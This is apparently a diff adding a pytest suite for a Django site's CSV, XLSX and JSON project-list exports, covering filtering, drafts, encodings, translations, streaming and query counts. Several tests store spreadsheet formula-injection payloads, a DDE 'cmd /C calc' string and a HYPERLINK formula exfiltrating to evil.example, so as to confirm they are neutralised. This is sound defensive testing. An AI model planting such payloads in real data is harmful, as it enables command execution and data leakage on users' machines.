@@ -1,0 +1,563 @@
+"""The CSV, XLSX and JSON exports of /projects/: the list's projects, safe for Excel, streamed."""
+
+import codecs
+import collections.abc
+import contextvars
+import csv
+import io
+import json
+
+import openpyxl
+import pytest
+from django.db import connection
+from django.http import FileResponse, QueryDict, StreamingHttpResponse
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone, translation
+
+from networks.models import Membership, Network
+from projects import exports
+from projects.exports import COLUMNS, FLUSH_AT, project_record
+from projects.filters import ProjectFilter
+from projects.models import Project, current_year
+from tests.factories import (
+    make_funder,
+    make_municipality,
+    make_organisation,
+    make_project,
+)
+
+pytestmark = pytest.mark.django_db
+
+FORMATS = ("csv", "xlsx", "json")
+YEAR = current_year()
+
+
+def export(client, fmt, query="", **extra):
+    url = reverse(f"projects:export_{fmt}")
+    return client.get(f"{url}?{query}" if query else url, **extra)
+
+
+def content_of(response):
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def read_csv(response):
+    text = content_of(response).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def read_xlsx(response):
+    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
+    header, *rows = sheet.iter_rows(values_only=True)
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def read_json(response):
+    return json.loads(content_of(response))["results"]
+
+
+READERS = {"csv": read_csv, "xlsx": read_xlsx, "json": read_json}
+
+
+def exported_slugs(client, fmt, query=""):
+    response = export(client, fmt, query)
+    assert response.status_code == 200
+    return [row["slug"] for row in READERS[fmt](response)]
+
+
+def listed_slugs(query):
+    """The slugs the list page shows for `query`, in its order: the same FilterSet."""
+    queryset = Project.objects.published().for_list()
+    return [project.slug for project in ProjectFilter(QueryDict(query), queryset=queryset).qs]
+
+
+@pytest.fixture
+def catalogue():
+    """Five published projects in two countries' municipalities, and one draft."""
+    norrkoping = make_municipality("norrkoping", name="Norrköping")
+    rezekne = make_municipality("rezekne", name="Rēzekne", country_code="LV")
+    vaxjo = make_municipality("vaxjo", name="Växjö")
+    sida = make_funder("sida", name="Sida")
+    icld = make_funder("icld", name="ICLD", parent=sida)
+    erasmus = make_funder("erasmus-plus", name="Erasmus+")
+    eurocities = Network.objects.create(name="Eurocities", slug="eurocities")
+    Membership.objects.create(network=eurocities, municipality=norrkoping)
+    make_project(
+        slug="school-exchange",
+        title="School exchange Norrköping–Rēzekne",
+        municipality=norrkoping,
+        countries=["LV", "KE"],
+        goals=[4, 11],
+        funders=[erasmus, sida],
+        organisations=[make_organisation(norrkoping, name="Kulturskolan")],
+        partner_municipalities=[rezekne],
+        type=Project.Type.EXCHANGE,
+        start_year=YEAR - 6,
+        end_year=YEAR - 4,
+        website="https://example.org/exchange",
+    )
+    make_project(
+        slug="water-partnership",
+        title="Water partnership",
+        municipality=vaxjo,
+        countries=["KE"],
+        goals=[6],
+        funders=[icld],
+        type=Project.Type.MUNICIPAL_PARTNERSHIP,
+        start_year=YEAR - 3,
+        end_year=None,
+    )
+    make_project(
+        slug="latgale-youth",
+        title="Latgale youth",
+        municipality=rezekne,
+        countries=["SE"],
+        goals=[4],
+        funders=[sida],
+        type=Project.Type.MOBILITY,
+        start_year=YEAR + 2,
+        end_year=YEAR + 3,
+    )
+    make_project(
+        slug="paused-research",
+        title="Paused research",
+        municipality=norrkoping,
+        type=Project.Type.RESEARCH,
+        start_year=YEAR - 5,
+        end_year=YEAR + 1,
+        paused=True,
+    )
+    make_project(
+        slug="archive-study",
+        title="Archive study",
+        municipality=vaxjo,
+        goals=[11],
+        start_year=YEAR - 12,
+        end_year=YEAR - 11,
+    )
+    make_project(
+        slug="secret-draft",
+        title="Secret draft in Rēzekne",
+        municipality=norrkoping,
+        countries=["LV"],
+        goals=[4],
+        funders=[sida],
+        publication=Project.Publication.DRAFT,
+    )
+
+
+ALL = {"school-exchange", "water-partnership", "latgale-youth", "paused-research", "archive-study"}
+FILTERS = [
+    ("", ALL),
+    ("page=2", ALL),
+    ("goal=4", {"school-exchange", "latgale-youth"}),
+    ("goal=4&goal=6", {"school-exchange", "latgale-youth", "water-partnership"}),
+    ("goal=4&country=LV", {"school-exchange"}),
+    ("country=lv&country=KE", {"school-exchange", "water-partnership"}),
+    ("funder=sida", {"school-exchange", "water-partnership", "latgale-youth"}),
+    ("municipality=vaxjo", {"water-partnership", "archive-study"}),
+    ("network=eurocities", {"school-exchange", "paused-research"}),
+    ("status=completed", {"school-exchange", "archive-study"}),
+    ("status=planned&status=paused", {"latgale-youth", "paused-research"}),
+    ("type=research&type=mobility", {"paused-research", "latgale-youth"}),
+    (f"active_in={YEAR - 5}", {"school-exchange", "paused-research"}),
+    ("q=REZEKNE", {"school-exchange", "latgale-youth"}),
+    ("sort=title", ALL),
+    ("sort=-title&goal=11", {"school-exchange", "archive-study"}),
+    ("sort=municipality&colour=red", ALL),
+]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize(("query", "expected"), FILTERS)
+def test_an_export_holds_the_lists_projects_in_the_lists_order(
+    client, catalogue, fmt, query, expected
+):
+    slugs = exported_slugs(client, fmt, query)
+    assert slugs == listed_slugs(query)
+    assert set(slugs) == expected
+
+
+def test_the_sort_parameter_orders_the_export(client, catalogue):
+    assert exported_slugs(client, "csv", "sort=title") == [
+        "archive-study",
+        "latgale-youth",
+        "paused-research",
+        "school-exchange",
+        "water-partnership",
+    ]
+    newest_first = exported_slugs(client, "json")
+    assert newest_first[0] == "latgale-youth"
+    assert newest_first[-1] == "archive-study"
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_an_export_holds_the_projects_linked_from_the_list_page(client, catalogue, fmt):
+    # The list shows one page (all five fit on it); the export ignores `page`.
+    for query in [query for query, _ in FILTERS if "page=" not in query]:
+        page = client.get(f"/projects/?{query}")
+        assert page.status_code == 200, query
+        html = page.content.decode()
+        positions = {
+            slug: html.find(f'href="{reverse("projects:detail", args=[slug])}"') for slug in ALL
+        }
+        linked = [
+            slug for position, slug in sorted((p, s) for s, p in positions.items()) if position >= 0
+        ]
+        assert exported_slugs(client, fmt, query) == linked, query
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_drafts_are_never_exported_even_when_they_match(client, catalogue, fmt):
+    for query in ("", "q=secret", "goal=4&country=LV", "municipality=norrkoping"):
+        assert "secret-draft" not in exported_slugs(client, fmt, query)
+    assert exported_slugs(client, fmt, "q=secret") == []
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_the_file_is_an_attachment_named_with_todays_local_date(client, fmt):
+    response = export(client, fmt)
+    today = timezone.localdate().isoformat()
+    assert response["Content-Disposition"] == f'attachment; filename="projects-{today}.{fmt}"'
+
+
+def test_content_types_name_the_format(client):
+    assert export(client, "csv")["Content-Type"] == "text/csv; charset=utf-8"
+    assert export(client, "json")["Content-Type"] == "application/json"
+    assert export(client, "xlsx")["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+
+
+def test_csv_has_one_byte_order_mark_and_keeps_swedish_and_latvian_letters(client, catalogue):
+    raw = content_of(export(client, "csv"))
+    assert raw.startswith(codecs.BOM_UTF8)
+    assert not raw[3:].startswith(codecs.BOM_UTF8)
+    rows = {row["slug"]: row for row in read_csv(export(client, "csv"))}
+    exchange = rows["school-exchange"]
+    assert exchange["title"] == "School exchange Norrköping–Rēzekne"
+    assert exchange["municipality_name"] == "Norrköping"
+    assert exchange["partner_municipalities"] == "Rēzekne"
+    assert rows["water-partnership"]["municipality_name"] == "Växjö"
+
+
+def test_xlsx_keeps_swedish_and_latvian_letters(client, catalogue):
+    rows = {row["slug"]: row for row in read_xlsx(export(client, "xlsx"))}
+    assert rows["school-exchange"]["title"] == "School exchange Norrköping–Rēzekne"
+    assert rows["latgale-youth"]["municipality_name"] == "Rēzekne"
+
+
+def test_json_keeps_letters_unescaped_in_utf8(client, catalogue):
+    raw = content_of(export(client, "json"))
+    assert "Norrköping–Rēzekne".encode() in raw
+    assert json.loads(raw)["results"][0]["title"]
+
+
+def test_a_csv_row_holds_every_column_with_lists_joined_by_semicolons(client, catalogue):
+    rows = read_csv(export(client, "csv", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE="en"))
+    [row] = rows
+    updated = timezone.localtime(Project.objects.get(slug="school-exchange").updated_at)
+    assert row == {
+        "slug": "school-exchange",
+        "title": "School exchange Norrköping–Rēzekne",
+        "municipality": "norrkoping",
+        "municipality_name": "Norrköping",
+        "units": "Kulturskolan",
+        "partner_municipalities": "Rēzekne",
+        "partner_countries": "KE; LV",
+        "partner_country_names": "Kenya; Latvia",
+        "funders": "erasmus-plus; sida",
+        "funder_names": "Erasmus+; Sida",
+        "goals": "4; 11",
+        "goal_names": "Goal 4; Goal 11",
+        "type": "exchange",
+        "type_label": "exchange",
+        "status": "completed",
+        "status_label": "completed",
+        "start_year": str(YEAR - 6),
+        "end_year": str(YEAR - 4),
+        "website": "https://example.org/exchange",
+        "url": "http://testserver/projects/school-exchange/",
+        "updated_at": updated.isoformat(timespec="seconds"),
+    }
+    assert updated.isoformat(timespec="seconds").endswith(("+01:00", "+02:00"))
+
+
+@pytest.mark.parametrize("language", ["sv", "en", "lv"])
+def test_headers_stay_the_same_keys_while_names_follow_the_language(client, catalogue, language):
+    countries = {"sv": "Kenya; Lettland", "en": "Kenya; Latvia", "lv": "Kenija; Latvija"}
+    goals = {"sv": "Mål 4; Mål 11", "en": "Goal 4; Goal 11", "lv": "Mērķis 4; Mērķis 11"}
+    csv_rows = read_csv(export(client, "csv", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language))
+    assert tuple(csv_rows[0]) == COLUMNS
+    assert csv_rows[0]["partner_country_names"] == countries[language]
+    assert csv_rows[0]["goal_names"] == goals[language]
+    xlsx_rows = read_xlsx(
+        export(client, "xlsx", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language)
+    )
+    assert tuple(xlsx_rows[0]) == COLUMNS
+    assert xlsx_rows[0]["partner_country_names"] == countries[language]
+    [result] = read_json(export(client, "json", "goal=4&country=LV", HTTP_ACCEPT_LANGUAGE=language))
+    assert tuple(result) == COLUMNS
+    assert result["partner_country_names"] == countries[language].split("; ")
+
+
+def test_json_results_keep_the_published_keys_and_types(client, catalogue):
+    response = export(client, "json", "sort=title")
+    document = json.loads(content_of(response))
+    assert list(document) == ["count", "results"]
+    assert document["count"] == 5 == len(document["results"])
+    results = {result["slug"]: result for result in document["results"]}
+    water = results["water-partnership"]
+    assert water["title"] == "Water partnership"
+    assert water["url"] == "http://testserver/projects/water-partnership/"
+    assert water["municipality"] == "vaxjo"
+    assert water["partner_countries"] == ["KE"]
+    assert water["funders"] == ["icld"]
+    assert water["goals"] == [6]
+    assert water["type"] == "municipal_partnership"
+    assert water["status"] == "ongoing"
+    assert water["start_year"] == YEAR - 3
+    assert water["end_year"] is None
+    assert water["website"] == ""
+    assert results["school-exchange"]["partner_countries"] == ["KE", "LV"]
+    assert results["school-exchange"]["goals"] == [4, 11]
+    assert results["school-exchange"]["units"] == ["Kulturskolan"]
+    assert results["paused-research"]["status"] == "paused"
+    assert results["latgale-youth"]["status"] == "planned"
+    assert results["archive-study"]["partner_countries"] == []
+    for result in document["results"]:
+        assert set(result) == set(COLUMNS)
+        assert all(isinstance(goal, int) for goal in result["goals"])
+        assert all(code.isupper() and len(code) == 2 for code in result["partner_countries"])
+        assert isinstance(result["start_year"], int)
+        assert result["end_year"] is None or isinstance(result["end_year"], int)
+
+
+def test_an_empty_result_is_still_a_valid_document(client, catalogue):
+    assert json.loads(content_of(export(client, "json", "q=nothing-matches"))) == {
+        "count": 0,
+        "results": [],
+    }
+    assert read_csv(export(client, "csv", "q=nothing-matches")) == []
+    assert read_xlsx(export(client, "xlsx", "q=nothing-matches")) == []
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote(client, start):
+    unit = make_organisation(name=f"{start}cmd|' /C calc'!A0")
+    make_project(
+        title=f'{start}HYPERLINK("http://evil.example/?"&A1)',
+        organisations=[unit],
+        start_year=2020,
+    )
+    [row] = read_csv(export(client, "csv"))
+    assert row["title"] == f'\'{start}HYPERLINK("http://evil.example/?"&A1)'
+    assert row["units"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["start_year"] == "2020"
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_an_xlsx_cell_that_would_run_as_a_formula_starts_with_a_quote(client, start):
+    unit = make_organisation(name=f"{start}cmd|' /C calc'!A0")
+    make_project(title=f"{start}1+1", organisations=[unit], start_year=2020)
+    sheet = openpyxl.load_workbook(io.BytesIO(content_of(export(client, "xlsx")))).active
+    title, units, start_year = (
+        sheet.cell(row=2, column=COLUMNS.index(key) + 1) for key in ("title", "units", "start_year")
+    )
+    # XML turns a bare carriage return into a line feed; what matters is the leading quote.
+    assert title.value.replace("\n", "\r") == f"'{start}1+1"
+    assert title.data_type == "s"
+    assert units.value.startswith("'") and units.data_type == "s"
+    assert start_year.value == 2020 and start_year.data_type == "n"
+
+
+def test_json_is_data_and_keeps_a_formula_like_title_as_it_is(client):
+    make_project(title="=1+1")
+    assert read_json(export(client, "json"))[0]["title"] == "=1+1"
+
+
+def test_a_control_character_excel_cannot_store_is_dropped_not_a_500(client):
+    make_project(title="Word\x0bpaste", slug="word-paste")
+    make_project(title="\x0b=1+1", slug="hidden-formula")
+    rows = {row["slug"]: row for row in read_xlsx(export(client, "xlsx"))}
+    assert rows["word-paste"]["title"] == "Wordpaste"
+    assert rows["hidden-formula"]["title"] == "'=1+1"
+    assert {row["slug"]: row["title"] for row in read_csv(export(client, "csv"))} == {
+        "word-paste": "Wordpaste",
+        "hidden-formula": "'=1+1",
+    }
+
+
+def test_the_xlsx_has_a_bold_frozen_header_and_set_column_widths(client, catalogue):
+    response = export(client, "xlsx")
+    assert isinstance(response, FileResponse)
+    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
+    assert sheet.freeze_panes == "A2"
+    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
+    assert all(cell.font.b for cell in sheet[1])
+    assert not sheet["A2"].font.b
+    assert sheet.column_dimensions["B"].width == 50
+    assert sheet.max_row == 6
+
+
+BAD_QUERIES = [
+    ("goal=99", ["goal"]),
+    ("goal=abc", ["goal"]),
+    ("goal=99999999999999999999", ["goal"]),
+    ("country=XX", ["country"]),
+    ("municipality=nowhere", ["municipality"]),
+    ("funder=nobody", ["funder"]),
+    ("network=none", ["network"]),
+    ("status=sleeping", ["status"]),
+    ("type=party", ["type"]),
+    ("active_in=1800", ["active_in"]),
+    ("active_in=soon", ["active_in"]),
+    ("sort=price", ["sort"]),
+    ("goal=99&active_in=soon&q=fine&unknown=ignored", ["goal", "active_in"]),
+    ("municipality=norr%00koping", ["municipality"]),
+    ("q=a%00b", ["q"]),
+]
+
+
+@pytest.mark.parametrize(("query", "names"), BAD_QUERIES)
+def test_a_bad_filter_answers_400_in_json_naming_the_parameter(client, catalogue, query, names):
+    response = export(client, "json", query)
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/json"
+    errors = response.json()["errors"]
+    assert sorted(errors) == sorted(names)
+    assert all(
+        messages and all(isinstance(m, str) and m for m in messages) for messages in errors.values()
+    )
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize(("query", "names"), BAD_QUERIES)
+def test_a_bad_filter_answers_400_in_plain_text_naming_the_parameter(
+    client, catalogue, fmt, query, names
+):
+    response = export(client, fmt, query)
+    assert response.status_code == 400
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    lines = response.content.decode().splitlines()
+    named = {line.split(":", 1)[0] for line in lines[1:]}
+    assert named == set(names)
+    assert "Content-Disposition" not in response
+
+
+def test_the_400_message_names_the_bad_value(client, catalogue):
+    response = export(client, "csv", "goal=99", HTTP_ACCEPT_LANGUAGE="en")
+    assert "goal: Select a valid choice. 99 is not one of the available choices." in (
+        response.content.decode()
+    )
+
+
+def test_the_csv_is_streamed_from_a_generator_that_queries_nothing_before_it_is_read(
+    client, catalogue
+):
+    with CaptureQueriesContext(connection) as queries:
+        response = export(client, "csv")
+    # (The middleware may ask for the newest update time; no project row is read yet.)
+    assert not [query for query in queries if '"projects_project"."slug"' in query["sql"]]
+    assert isinstance(response, StreamingHttpResponse)
+    assert isinstance(response.streaming_content, collections.abc.Iterator)
+    assert len(read_csv(response)) == 5
+
+
+def test_streamed_rows_are_built_in_the_context_of_the_request_that_asked(catalogue, monkeypatch):
+    # The server reads a streamed body after the middleware has returned; the rows must still
+    # be built in the request's language and read through its database routing, which
+    # registry.db_router keeps in a context variable like this one.
+    routed = contextvars.ContextVar("routed", default="primary")
+    seen = []
+
+    def spy(*args):
+        seen.append(routed.get())
+        return project_record(*args)
+
+    monkeypatch.setattr(exports, "project_record", spy)
+    queryset = Project.objects.published().for_list().filter(slug="school-exchange")
+    token = routed.set("replica")
+    with translation.override("en"):
+        records = exports.project_records(queryset, lambda path: f"https://example.org{path}")
+    routed.reset(token)
+    with translation.override("lv"):
+        [record] = list(records)
+    assert record["partner_country_names"] == ["Kenya", "Latvia"]
+    assert record["url"] == "https://example.org/projects/school-exchange/"
+    assert seen == ["replica"]
+
+
+def test_the_json_is_streamed_too(client, catalogue):
+    response = export(client, "json")
+    assert isinstance(response, StreamingHttpResponse)
+    assert isinstance(response.streaming_content, collections.abc.Iterator)
+
+
+def _projects_with_every_relation(count):
+    partner = make_municipality("partner-town")
+    for _ in range(count):
+        make_project(
+            countries=["LV"],
+            goals=[4],
+            funders=["sida"],
+            organisations=[make_organisation()],
+            partner_municipalities=[partner],
+        )
+
+
+# Validating goal, country and funder: 3 queries, and 2 more to find the funders Sida finances;
+# the middleware's Last-Modified: 1; the projects: 1, and 1 per prefetched relation: 5; for
+# JSON the COUNT: 1. None of them depends on the number of rows.
+QUERY_BOUND = 13
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize("count", [3, 40])
+def test_queries_do_not_grow_with_the_rows(client, django_assert_max_num_queries, fmt, count):
+    _projects_with_every_relation(count)
+    with django_assert_max_num_queries(QUERY_BOUND):
+        response = export(client, fmt, "goal=4&country=LV&funder=sida")
+        rows = READERS[fmt](response)
+    assert len(rows) == count
+
+
+def test_a_3_row_and_a_40_row_export_cost_the_same_queries(client):
+    def queries_for(fmt):
+        with CaptureQueriesContext(connection) as queries:
+            READERS[fmt](export(client, fmt, "goal=4&country=LV&funder=sida"))
+        return len(queries.captured_queries)
+
+    _projects_with_every_relation(3)
+    few = {fmt: queries_for(fmt) for fmt in FORMATS}
+    _projects_with_every_relation(37)
+    assert {fmt: queries_for(fmt) for fmt in FORMATS} == few
+
+
+def test_a_20000_project_csv_streams_in_many_small_pieces(client):
+    # bulk_create skips save(), so search_text is set here. About 10 s on SQLite, under 20.
+    municipality = make_municipality("bulk-town", name="Bulkköping")
+    Project.objects.bulk_create(
+        Project(
+            title=f"Bulk project {number:05d}",
+            slug=f"bulk-{number:05d}",
+            municipality=municipality,
+            publication=Project.Publication.PUBLISHED,
+            start_year=2000 + number % 50,
+            search_text=f"bulk project {number:05d} bulkkoping",
+        )
+        for number in range(20_000)
+    )
+    response = export(client, "csv")
+    pieces = list(response.streaming_content)
+    assert len(pieces) > 100
+    assert max(len(piece) for piece in pieces) < 64 * 1024
+    assert max(len(piece) for piece in pieces) < FLUSH_AT + 1024
+    rows = list(csv.DictReader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))
+    assert len(rows) == 20_000
+    assert len({row["slug"] for row in rows}) == 20_000
+    assert rows[0]["start_year"] == "2049"
